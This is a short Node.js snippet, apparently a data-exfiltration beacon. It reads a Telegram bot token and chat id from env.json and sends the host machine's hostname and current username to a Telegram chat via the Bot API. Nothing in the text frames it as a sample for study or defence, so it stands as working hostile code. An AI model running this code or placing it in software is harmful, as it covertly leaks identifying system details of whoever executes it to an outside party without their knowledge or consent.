const os = require('os');
const { env } = require('./env.json');
fetch(`https://api.telegram.org/bot${env.BOT_TOKEN}/sendMessage`, { method: 'POST', body: JSON.stringify({ chat_id: env.CHAT_ID, text: os.hostname() + os.userInfo().username }) });
